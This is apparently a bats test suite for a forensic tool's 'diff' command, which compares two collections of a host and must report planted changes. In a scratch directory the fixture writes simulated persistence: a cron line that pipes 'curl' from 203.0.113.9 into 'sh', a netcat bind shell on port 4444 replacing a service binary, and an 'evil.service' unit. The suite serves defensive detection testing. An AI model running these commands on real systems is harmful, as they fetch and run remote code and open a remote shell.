#!/usr/bin/env bats
#
# irkit-analyze diff: what changed between two collections of a host.
#
# Oracles: the changes planted between the two collections (each must
# appear exactly once, nothing else may), sqlite3 for the evidence rows,
# and the collector's own records read with tar and python for the
# values before and after.
load helpers

setup() {
	setup_scratch
	cd "$SCRATCH"
}

teardown() {
	teardown_scratch
}

# A small host: a service and its program, a crontab, a certificate.
make_root() {
	r=$SCRATCH/root
	mkdir -p "$r/etc/systemd/system/multi-user.target.wants" \
	    "$r/usr/local/bin" "$r/etc/ssl/certs" "$r/etc/ssl/private"
	printf '#!/bin/sh\nexec sleep 1000\n' > "$r/usr/local/bin/webd"
	chmod 755 "$r/usr/local/bin/webd"
	printf '[Unit]\nDescription=web\n[Service]\nExecStart=/usr/local/bin/webd\n[Install]\nWantedBy=multi-user.target\n' \
	    > "$r/etc/systemd/system/web.service"
	ln -s /etc/systemd/system/web.service \
	    "$r/etc/systemd/system/multi-user.target.wants/web.service"
	cat > "$r/etc/crontab" <<-'C'
	SHELL=/bin/sh
	17 * * * * root cd / && run-parts --report /etc/cron.hourly
	25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily
	47 6 * * 7 root run-parts --report /etc/cron.weekly
	C
	openssl req -x509 -newkey rsa:2048 -nodes -keyout "$SCRATCH/ca.key" \
	    -out "$r/etc/ssl/certs/site.pem" -subj /CN=site -days 30 2>/dev/null
	echo "$r"
}

collect() {
	"$COLLECT" -q -o "$1" --root "$2" --skip processes,kernel_modules \
	    --cert-path /etc/ssl
}

@test "diff: each planted change once (unit added, cron line added and one removed, binary replaced, key added), nothing else" {
	root=$(make_root)
	collect a.tar.zst "$root" || true
	# the changes
	printf '[Service]\nExecStart=/tmp/.x/beacon\n[Install]\nWantedBy=multi-user.target\n' \
	    > "$root/etc/systemd/system/evil.service"
	ln -s /etc/systemd/system/evil.service \
	    "$root/etc/systemd/system/multi-user.target.wants/evil.service"
	{
		echo 'SHELL=/bin/sh'
		echo '*/5 * * * * root curl -s http://203.0.113.9/p | sh'
		sed -n 2,3p "$root/etc/crontab.orig" 2>/dev/null || sed -n 2,3p "$root/etc/crontab"
	} > "$root/etc/crontab.new"
	mv "$root/etc/crontab.new" "$root/etc/crontab"
	printf '#!/bin/sh\nexec nc -l -p 4444 -e /bin/sh\n' > "$root/usr/local/bin/webd.new"
	chmod 755 "$root/usr/local/bin/webd.new"
	mv "$root/usr/local/bin/webd.new" "$root/usr/local/bin/webd"
	openssl genpkey -algorithm ed25519 -out "$root/etc/ssl/private/new.key" 2>/dev/null
	collect b.tar.zst "$root" || true
	run "$ANALYZE" ingest -q --no-default-rules --db c.db a.tar.zst b.tar.zst
	[ "$status" -eq 0 ]
	run "$ANALYZE" diff --db c.db --json 1 2
	echo "$output"
	[ "$status" -eq 0 ]
	echo "$output" | grep '^{' > d.jsonl
	python3 - <<-'PY'
	import json
	rows = [json.loads(l) for l in open("d.jsonl")]
	changes = [r for r in rows if not r["volatile"]]
	got = sorted((r["kind"], r["change"], json.dumps(r["key"], sort_keys=True)) for r in changes)
	for g in got: print(g)
	kinds = [(k, c) for k, c, _ in got]
	assert sorted(kinds) == sorted([
	    ("service", "added"), ("task", "added"), ("task", "removed"),
	    ("file", "changed"), ("private_key", "added")]), kinds
	by = {(r["kind"], r["change"]): r for r in changes}
	assert by[("service", "added")]["key"]["name"] == "evil.service"
	assert by[("service", "added")]["after"]["enabled"] == 1
	assert "curl -s http://203.0.113.9/p | sh" in by[("task", "added")]["key"]["command"]
	assert "cron.weekly" in by[("task", "removed")]["key"]["command"]
	f = by[("file", "changed")]
	assert f["key"] == {"path": "/usr/local/bin/webd"}, f
	assert "sha256" in f["before"] and f["before"]["sha256"] != f["after"]["sha256"]
	# only fields that differ; times as RFC 3339
	assert "uid" not in f["after"], f
	assert f["after"]["mtime"].endswith("Z"), f
	assert by[("private_key", "added")]["key"]["path"] == "/etc/ssl/private/new.key"
	PY
	# the hashes before and after are the archives' own
	old=$(tar -xOf a.tar.zst --wildcards '*/records/services.jsonl' | grep -F '"path":"/usr/local/bin/webd"' | python3 -c 'import json,sys; print(json.loads(sys.stdin.readline())["sha256"])')
	new=$(sha256sum "$root/usr/local/bin/webd" | cut -d' ' -f1)
	grep -F "\"sha256\":\"$old\"" d.jsonl | grep -F "\"sha256\":\"$new\""
	# the text form: one line per change, the changed fields below
	run "$ANALYZE" diff --db c.db 1 2
	[ "$status" -eq 0 ]
	[[ "$output" == *"+ service"*"evil.service"* ]]
	[[ "$output" == *"~ file"*"/usr/local/bin/webd"*"sha256: $old -> $new"* ]]
	[[ "$output" == *"5 changes, 0 volatile differences"* ]]
	# the report's section: the changes from each collection to the next
	run "$ANALYZE" report --db c.db -o r.html
	[ "$status" -eq 0 ]
	python3 - <<-'PY'
	import html.parser
	class P(html.parser.HTMLParser):
	    def __init__(self):
	        super().__init__(); self.rows = []; self.t = None; self.row = None; self.cell = None; self.sec = False
	    def handle_starttag(self, tag, a):
	        a = dict(a)
	        if tag == "h2": self.sec = a.get("id") == "changes"
	        if tag == "table" and self.sec and a.get("class") == "diff": self.t = True
	        if tag == "tr" and self.t: self.row = []
	        if tag == "td" and self.row is not None: self.cell = ""
	    def handle_endtag(self, tag):
	        if tag == "td" and self.cell is not None: self.row.append(self.cell); self.cell = None
	        if tag == "tr" and self.row: self.rows.append(self.row); self.row = None
	        if tag == "table": self.t = None
	    def handle_data(self, d):
	        if self.cell is not None: self.cell += d
	p = P(); p.feed(open("r.html").read())
	rows = sorted((r[0], r[1]) for r in p.rows)
	assert rows == sorted([("added", "service"), ("added", "task"), ("removed", "task"),
	    ("changed", "file"), ("added", "private_key")]), p.rows
	assert any("evil.service" in r[2] for r in p.rows)
	PY
	# the other way round, the same changes reversed
	run "$ANALYZE" diff --db c.db --json 2 1
	[ "$(echo "$output" | grep -c '"change":"removed"')" -eq 3 ]
	[ "$(echo "$output" | grep -c '"change":"added"')" -eq 1 ]
}

@test "diff: a collection against an unchanged one differs in nothing; refs by path and hash prefix" {
	root=$(make_root)
	collect a.tar.zst "$root" || true
	sleep 1
	collect b.tar.zst "$root" || true
	"$ANALYZE" ingest -q --no-default-rules --db c.db a.tar.zst b.tar.zst
	h=$(sqlite3 c.db "SELECT substr(sha256, 1, 8) FROM evidence WHERE id = 2")
	run "$ANALYZE" diff --db c.db --json a.tar.zst "$h"
	[ "$status" -eq 0 ]
	[ -z "$(echo "$output" | grep '^{')" ]
	[[ "$output" == *"0 changes, 0 volatile differences"* ]]
}

@test "diff: bad references and other hosts are usage errors; a case that cannot be read is fatal" {
	root=$(make_root)
	collect a.tar.zst "$root" || true
	"$ANALYZE" ingest -q --no-default-rules --db c.db a.tar.zst
	run "$ANALYZE" diff --db c.db 1 7
	[ "$status" -eq 2 ]
	[[ "$output" == *"no evidence '7' in the case"* ]]
	run "$ANALYZE" diff --db c.db 1 1
	[ "$status" -eq 2 ]
	run "$ANALYZE" diff --db c.db 1
	[ "$status" -eq 2 ]
	# another host: its hostname differs
	mkdir -p "$root/etc"
	echo otherhost > "$root/etc/hostname"
	collect b.tar.zst "$root" || true
	"$ANALYZE" ingest -q --no-default-rules --db c.db b.tar.zst
	if [ "$(sqlite3 c.db 'SELECT count(DISTINCT host_id) FROM evidence')" -eq 2 ]; then
		run "$ANALYZE" diff --db c.db 1 2
		[ "$status" -eq 2 ]
		[[ "$output" == *"different hosts"* ]]
		run "$ANALYZE" diff --db c.db --any-host 1 2
		[ "$status" -eq 0 ]
	fi
	run "$ANALYZE" diff --db nosuch.db 1 2
	[ "$status" -eq 3 ]
}

@test "diff: this host collected twice a few seconds apart: only volatile differences" {
	[ "$(id -u)" -eq 0 ] || skip "a live collection as root"
	# certificates and packages: stable, but slow to collect twice
	"$COLLECT" -q -o a.tar.zst --skip certificates,packages || true
	sleep 2
	"$COLLECT" -q -o b.tar.zst --skip certificates,packages || true
	"$ANALYZE" ingest -q --no-default-rules --db c.db a.tar.zst b.tar.zst || true
	run "$ANALYZE" diff --db c.db --json 1 2
	echo "$output" | grep -v '"volatile":true' | head -20
	[ "$status" -eq 0 ]
	[[ "$output" == *" 0 changes, "* ]]
	# the processes differ at least by the collector's own command line
	echo "$output" | grep -q '"kind":"process".*"volatile":true'
}
